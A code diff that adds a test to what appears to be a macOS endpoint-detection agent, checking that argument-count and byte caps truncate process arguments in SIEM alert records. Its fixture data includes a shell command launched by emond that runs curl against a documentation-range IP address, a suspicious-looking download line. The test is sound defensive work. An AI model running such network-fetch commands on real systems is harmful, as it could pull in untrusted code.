@@ -245,6 +245,33 @@ describe('source selection', () => {
   });
 });
 
+describe('argv caps from the configuration', () => {
+  it('apply to a recorded file and to eslogger lines as they do to the native source (maxArgs, maxArgBytes)', async () => {
+    const { dir, config } = workspace({ maxArgs: 3, maxArgBytes: 4096 });
+    const t = new TraceBuilder({ version: 9 }, () => new Date().toISOString().replace('Z', '000Z'));
+    const emond = t.spawn(t.existing(1, '/sbin/launchd', 0), 118, '/sbin/emond');
+    t.spawn(emond, 2401, '/bin/sh', ['sh', '-c', 'curl -fsS http://203.0.113.7/x', 'one', 'two']);
+    t.spawn(emond, 2402, '/bin/sh', ['sh', '-c', 'x'.repeat(10_000)]);
+    const trace = path.join(dir, 'trace.ndjson');
+    writeFileSync(trace, t.text());
+    const agent = await start({ config, source: `file:${trace}`, addon: null });
+    await agent.finished;
+    // The NDJSON file carries the whole alert documents, as the SIEM gets them.
+    const alerts = readFileSync(config.alertsNdjsonPath, 'utf8')
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { event: { kind: string }; process: { args: string[]; args_count: number; Ext?: unknown } })
+      .filter((document) => document.event.kind === 'alert');
+    const [few, big] = alerts.map((a) => a.process);
+    // The defaults (1,024 arguments, 256 KiB) would have kept every argument of both.
+    expect(few?.args).toEqual(['sh', '-c', 'curl -fsS http://203.0.113.7/x']);
+    expect(few?.args_count).toBe(5);
+    expect(few?.Ext).toEqual({ args_truncated: true });
+    expect(big?.args).toEqual(['sh', '-c']);
+    expect(big?.Ext).toEqual({ args_truncated: true });
+  });
+});
+
 describe('reloading', () => {
   it('swaps in new rules without losing the process tree, and keeps the old rules when the new ones are broken', async () => {
     const { dir, config } = workspace();
